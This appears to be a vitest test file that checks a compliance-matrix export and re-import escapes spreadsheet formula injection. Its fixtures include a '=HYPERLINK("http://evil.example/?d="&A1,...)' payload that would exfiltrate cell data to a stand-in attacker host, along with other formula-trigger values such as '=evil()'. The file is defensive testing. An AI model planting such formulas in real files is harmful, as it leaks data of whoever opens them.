import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { MATRIX_COLUMNS } from '../../functions/domain/sheets/matrix.ts';
import { call } from '../support/api.ts';
import {
  byRequirement,
  checklist,
  downloadMatrix,
  newTenderFromSheet,
  patchItem,
  reimport,
  tokenFor,
  uploadEvidence,
} from '../support/sheets.ts';
import { openpyxlEdit, openpyxlRead } from '../support/xlsx.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const HEADERS = MATRIX_COLUMNS.map((c) => c.header);

/** A buyer's list whose reference, requirement and lot start with formula triggers. */
const buyerCsv = [
  'Ref,Requirement,Mandatory,Lot,Expected answer',
  '@R1,"=1+2 is what the buyer typed",Yes,-1,Text',
  'R2,Provide the ISO 9001 certificate,Yes,,Document',
  'R3,Annual turnover in EUR,Yes,,Number',
].join('\n');

/** A tender from the CSV with formula-like text in every text column a user can fill. */
async function injectedTender(org: string) {
  const token = await tokenFor(org, ['bid-manager', 'contributor']);
  const { tenderId } = await newTenderFromSheet(token, 'buyer.csv', buyerCsv);
  const items = await checklist(token, tenderId);
  const r1 = byRequirement(items, '@R1');
  const set = await patchItem(token, tenderId, r1, {
    owner: '+owner',
    answer: { value: '=HYPERLINK("http://evil.example/?d="&A1,"open")' },
    comment: '\tcomment that starts with a tab',
  });
  expect(set.status).toBe(200);
  const evidenceId = await uploadEvidence(token, '=evil() certificate', Buffer.from('%PDF-1.7 certificate'));
  const r2 = byRequirement(items, 'R2');
  expect((await patchItem(token, tenderId, r2, { evidence: { attach: [evidenceId] } })).status).toBe(200);
  return { token, tenderId, evidenceId };
}

describe('compliance-matrix export', () => {
  it('writes one row per item that an independent reader (openpyxl) sees as plain values, neutralised, with the layout promised', async () => {
    const { token, tenderId, evidenceId } = await injectedTender('matrix-xlsx');
    const items = await checklist(token, tenderId);
    const book = openpyxlRead(await downloadMatrix(token, tenderId, 'xlsx'));
    const sheet = book['Compliance matrix'];
    if (!sheet) throw new Error('no matrix sheet');
    expect(Object.keys(book)).toEqual(['Compliance matrix', 'Readiness']);
    expect(sheet.rows[0]?.map((c) => c.v)).toEqual(HEADERS);
    expect(sheet.freeze).toBe('A2');
    expect(sheet.autoFilter).toBe('A1:K4');
    expect(sheet.hidden).toEqual(['K']);
    expect(sheet.validations).toContainEqual({
      type: 'list',
      formula1: '"Compliant,Partially compliant,Non-compliant,N/A"',
      ranges: 'G2:G4',
    });
    // every cell is a text value and none starts with a formula trigger
    for (const row of sheet.rows)
      for (const cell of row) {
        expect(cell.t).not.toBe('f');
        if (typeof cell.v === 'string') expect(TRIGGERS).not.toContain(cell.v.charAt(0));
      }
    const rowOf = (ref: string) => sheet.rows.find((r) => r[0]?.v === ref)?.map((c) => c.v ?? '');
    const r1 = byRequirement(items, '@R1');
    expect(rowOf("'@R1")).toEqual([
      "'@R1",
      "'=1+2 is what the buyer typed",
      "'-1",
      'Yes',
      "'+owner",
      'answered',
      'Compliant',
      `'=HYPERLINK("http://evil.example/?d="&A1,"open")`,
      '',
      "'\tcomment that starts with a tab",
      `${r1.itemId}@v${r1.version}`,
    ]);
    const r2 = byRequirement(items, 'R2');
    expect(rowOf('R2')).toEqual([
      'R2',
      'Provide the ISO 9001 certificate',
      '',
      'Yes',
      '',
      'open',
      '',
      '',
      `'=evil() certificate (${evidenceId})`,
      '',
      `${r2.itemId}@v${r2.version}`,
    ]);
    const readiness = book.Readiness?.rows.map((r) => r.map((c) => c.v));
    expect(readiness).toContainEqual(['Ready to submit', 'No']);
    expect(readiness).toContainEqual(['Mandatory requirements', '3']);
  });

  it('writes the same neutralised values to CSV, every field quoted', async () => {
    const { token, tenderId } = await injectedTender('matrix-csv');
    const bytes = await downloadMatrix(token, tenderId, 'csv');
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(true);
    const records: string[][] = parse(bytes.toString('utf8').slice(1), { relax_column_count: false });
    expect(records[0]).toEqual(HEADERS);
    const r1 = records.find((r) => r[0] === "'@R1");
    expect(r1?.slice(0, 8)).toEqual([
      "'@R1",
      "'=1+2 is what the buyer typed",
      "'-1",
      'Yes',
      "'+owner",
      'answered',
      'Compliant',
      `'=HYPERLINK("http://evil.example/?d="&A1,"open")`,
    ]);
    for (const field of records.flat()) expect(TRIGGERS).not.toContain(field.charAt(0));
    expect(bytes.toString('utf8')).toContain('"R2","Provide the ISO 9001 certificate"');
  });
});

describe('compliance-matrix re-import', () => {
  it('round trip: cells edited in another spreadsheet program apply as PATCH would, audited; the rest is unchanged', async () => {
    const { token, tenderId } = await injectedTender('matrix-roundtrip');
    const exported = await downloadMatrix(token, tenderId, 'xlsx');
    const sheet = openpyxlRead(exported)['Compliance matrix'];
    const row = (sheet?.rows.findIndex((r) => r[0]?.v === 'R3') ?? -1) + 1;
    const edited = openpyxlEdit(exported, {
      [`Compliance matrix!E${row}`]: 'bob',
      [`Compliance matrix!H${row}`]: '1 500 000,50',
    });
    const res = await reimport(token, tenderId, 'matrix.xlsx', edited);
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({ applied: 1, unchanged: 2, conflicts: 0, invalid: 0 });
    const r3 = byRequirement(await checklist(token, tenderId), 'R3');
    expect(res.json.rows).toContainEqual({
      row,
      itemId: r3.itemId,
      reference: 'R3',
      requirement: 'Annual turnover in EUR',
      outcome: 'applied',
      version: r3.version,
      changes: [
        { column: 'Owner', from: '', to: 'bob' },
        { column: 'Answer', from: '', to: '1 500 000,50' },
      ],
    });
    expect(r3).toMatchObject({
      owner: 'bob',
      answer: { value: 1500000.5 },
      status: 'answered',
      compliant: true,
    });
    const audit = await call('GET', `/tenders/${tenderId}/audit?limit=50`, { token });
    expect(audit.json.items).toContainEqual(
      expect.objectContaining({
        entity: `item:${r3.itemId}`,
        actor: 'alice',
        after: expect.objectContaining({ owner: 'bob' }),
      }),
    );
    // the same file again applies nothing: R3's row is now stale, and its status moved (open → answered)
    const again = await reimport(token, tenderId, 'matrix.xlsx', edited);
    expect(again.json).toMatchObject({ applied: 0, unchanged: 2, conflicts: 1 });
    expect(again.json.rows).toContainEqual(
      expect.objectContaining({
        itemId: r3.itemId,
        conflicts: expect.arrayContaining([{ column: 'Status', file: 'open', current: 'answered' }]),
      }),
    );
  });

  it('reports a row edited while its item changed as a conflict with both values, and applies nothing for it', async () => {
    const { token, tenderId } = await injectedTender('matrix-conflict');
    const exported = await downloadMatrix(token, tenderId, 'csv');
    const r3 = byRequirement(await checklist(token, tenderId), 'R3');
    expect((await patchItem(token, tenderId, r3, { owner: 'carol' })).status).toBe(200);
    const edited = exported
      .toString('utf8')
      .replace(/("R3","Annual turnover in EUR","","Yes",)""/, '$1"dave"');
    expect(edited, exported.toString('utf8')).toContain('"dave"');
    const res = await reimport(token, tenderId, 'matrix.csv', edited);
    expect(res.json).toMatchObject({ applied: 0, conflicts: 1 });
    expect(res.json.rows).toContainEqual(
      expect.objectContaining({
        itemId: r3.itemId,
        outcome: 'conflict',
        exportedVersion: r3.version,
        currentVersion: r3.version + 1,
        conflicts: [{ column: 'Owner', file: 'dave', current: 'carol' }],
      }),
    );
    expect(byRequirement(await checklist(token, tenderId), 'R3').owner).toBe('carol');
  });

  it('refuses a change the caller may not make, and an answer that does not fit, row by row', async () => {
    const { token, tenderId } = await injectedTender('matrix-invalid');
    const exported = await downloadMatrix(token, tenderId, 'xlsx');
    const rows = openpyxlRead(exported)['Compliance matrix']?.rows ?? [];
    const rowOf = (ref: string) => rows.findIndex((r) => r[0]?.v === ref) + 1;
    const edited = openpyxlEdit(exported, {
      [`Compliance matrix!H${rowOf('R3')}`]: 'about a million',
      [`Compliance matrix!E${rowOf('R2')}`]: 'mallory',
      [`Compliance matrix!G${rowOf('R2')}`]: 'Partially compliant',
    });
    const contributor = await tokenFor('matrix-invalid', ['contributor'], 'connie');
    const res = await reimport(contributor, tenderId, 'matrix.xlsx', edited);
    expect(res.json).toMatchObject({ applied: 0, invalid: 2 });
    const outcomes = res.json.rows as {
      row: number;
      outcome: string;
      errors?: { column: string; message: string }[];
    }[];
    expect(outcomes.find((o) => o.row === rowOf('R3'))?.errors).toEqual([
      { column: 'Answer', message: expect.stringMatching(/number/) },
    ]);
    expect(outcomes.find((o) => o.row === rowOf('R2'))?.errors?.[0]).toMatchObject({ column: 'Compliance' });
    const items = await checklist(token, tenderId);
    expect(byRequirement(items, 'R3').answer).toBeNull();
    expect(byRequirement(items, 'R2').owner).toBeNull();
  });
});
